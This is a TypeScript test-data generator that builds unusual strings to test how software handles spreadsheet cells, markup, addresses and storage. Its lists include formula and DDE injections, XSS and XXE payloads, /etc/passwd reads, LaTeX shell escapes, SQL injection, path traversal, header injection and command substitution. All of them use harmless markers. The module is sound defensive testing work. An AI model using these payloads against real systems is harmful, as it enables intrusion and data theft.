/**
 * Texts that break what carries them: families of beginnings and bodies combined by a seeded generator, each text once. A text that is
 * taken for markup makes an element `x-r14` or sets `r14Ran`; one that is taken for an address leads to `r14.invalid`. For drills only.
 */
import { seededRandom } from './seeded-random.ts';

export interface OddText {
  readonly family: string;
  readonly text: string;
}

const each = (family: string, texts: readonly string[]): OddText[] => texts.map((text) => ({ family, text }));

const leaders = [
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
];
const formulas = [
  '1+1',
  'HYPERLINK("http://r14.invalid/?"&A1,"сюда")',
  "cmd|'/c calc'!A1",
  'SUM(1;2)*3',
  'WEBSERVICE("http://r14.invalid/")',
  'DDE("cmd";"/c calc";"r14")',
];
const separators = [';', ',', '\t', '\n', '";', '",', '\r\n', ' ; ', '";"', '\n"', ';"', '"\n;'];

const escapes = [
  '_x0041_',
  '_x000D_=1+1',
  '_x005F_x0041_',
  '_X0041_',
  '_x0000_',
  'a_x0041_x0042_b',
  '_x_',
  '_xD83D_',
];
const quotes = ['"', '""', '"a"', "'=1+1", "''", '«„“»', '`a`', '\\"a\\"', '"a', "a'b''c", '\u02bc=1+1'];
const marks = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u200b',
  '\u200d',
  '\u200f',
  '\u061c',
  '\u2060',
  '\u00ad',
  '\ufeff',
  '\u180e',
];
const signs = [
  '\u{1f469}\u200d\u{1f3ed}',
  '\u{1f1f7}\u{1f1fa}',
  '\u{1d504}\u{10ffff}',
  '\u2764\ufe0f',
  '\u{20000}',
  '\u0301а',
  `е${'\u0301'.repeat(40)}`,
  'и\u0306 и й',
  'ёЁ е\u0308',
  'а\u2011б',
  'а\u00a0б\u202fв',
  'а\u3000б',
  'а\u2028б\u2029в',
  'а\u0085б',
  '\ufb01 \u2126 \u212b',
  '\ufffd\ufffc',
  'שלום العربية',
];
const bodies = [
  '<x-r14>',
  '"><x-r14>',
  "'><x-r14 a='",
  '<img src=x onerror=r14Ran=1>',
  '<svg/onload=r14Ran=1>',
  '<script>r14Ran=1</script>',
  '</script><script>r14Ran=1</script>',
  '</textarea><x-r14>',
  '</title></style><x-r14>',
  '--><x-r14><!--',
  ']]><x-r14>',
  '&lt;x-r14&gt;',
  '&#60;x-r14&#62;&amp;amp;&nbsp;',
  '" onmouseover="r14Ran=1',
  "' autofocus onfocus='r14Ran=1",
  '<iframe srcdoc="<x-r14>">',
  '<base href=//r14.invalid/>',
  '<meta http-equiv=refresh content="0;url=//r14.invalid/">',
  '\\u003cx-r14\\u003e',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  '</t></si><x-r14/>',
];
const addresses = [
  'javascript:r14Ran=1',
  'java\tscript:r14Ran=1',
  'data:text/html,<x-r14>',
  'vbscript:r14',
  '//r14.invalid/a',
  'file:///etc/passwd',
  'url(//r14.invalid/b)',
  '}body{display:none}*{background:url(//r14.invalid/c)',
  'red;background:url("//r14.invalid/d")',
  'expression(r14Ran=1)',
  '@import "//r14.invalid/e";',
];
const typesetting = [
  '#panic("r14")',
  '#read("/etc/passwd")',
  '#eval("1+1")',
  '= Заголовок',
  '$ x^2 $',
  '*жирно* _косо_ `код`',
  '@ссылка <метка>',
  '#link("http://r14.invalid/")[a]',
  '\\u{41} // пропадёт',
  '/* пропадёт */',
  '[a](javascript:r14Ran=1)',
  '![a](http://r14.invalid/f.png)',
  '# Заголовок',
  '| a | b |',
  '***',
  '\\input{/etc/passwd}',
  '\\write18{id} % пропадёт',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is meant.
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %>',
  '%s %n %1$s',
];
const systems = [
  "'; DROP TABLE facts; --",
  "' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\a.xlsx',
  '%00 %0d%0aSet-Cookie: a=b',
  '$(id) `id` | id',
  'a\r\nBcc: b@example.org',
  '"|cmd',
  '{"__proto__":1}',
];
const lookalikes = [
  '007',
  '1e5',
  '1,5',
  '01.02.2018',
  'TRUE',
  '#REF!',
  'NaN',
  'null',
  'undefined',
  '__proto__',
  'constructor',
  'toString',
  '-',
  '0x1F',
  '1/2',
  "'",
];
/** What no store keeps unchanged: to be refused, or tidied where only blanks are lost. */
const controls = [
  '\u0000',
  'а\u0000б',
  '\u0001',
  '\u0008а',
  '\u001b[31m',
  '\u007f',
  'а\u000bб',
  '\ufffe',
  '\uffff',
  '\u0090',
  '\ud83d',
  'а\udead',
  '\udead\ud83d',
];

const fixed: readonly OddText[] = [
  ...leaders.flatMap((leader, at) => each('leader', [leader + formulas[at % formulas.length]])),
  ...separators.flatMap((one, at) => each('separator', [`а${one}${leaders[at % 4]}${formulas[at % 2]}`])),
  ...each('escape', escapes),
  ...each('quote', quotes),
  ...marks.map((mark) => ({ family: 'mark', text: `а${mark}б${mark}` })),
  ...each('sign', signs),
  ...each('markup', bodies),
  ...each('address', addresses),
  ...each('typesetting', typesetting),
  ...each('system', systems),
  ...each('lookalike', lookalikes),
  ...each('control', controls),
  ...[500, 501, 999, 1000, 1001].map((length) => ({
    family: 'long',
    text: `=${'длинно '.repeat(200)}`.slice(0, length - 1).padEnd(length, '.'),
  })),
];

/** The longest a cell of a workbook holds is 32,767 characters. */
export const hugeText: OddText = { family: 'long', text: `=1+1 ${'ё'.repeat(33_000)}` };

const plenty = [
  leaders,
  formulas,
  separators,
  escapes,
  quotes,
  marks,
  signs,
  bodies,
  addresses,
  typesetting,
  systems,
];

/** `count` texts: every fixed one, then chance combinations of two or three pieces. */
export function oddTexts(count: number, seed: number): readonly OddText[] {
  const random = seededRandom(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const found = new Map(fixed.map((one) => [one.text, one]));
  while (found.size < count) {
    const pieces = Array.from({ length: random() < 0.5 ? 2 : 3 }, () => pick(pick(plenty)));
    const text = pieces.join(pick(['', ' ', ';', 'а']));
    if (!found.has(text)) found.set(text, { family: 'mixed', text });
  }
  return [...found.values()].slice(0, Math.max(count, 1));
}
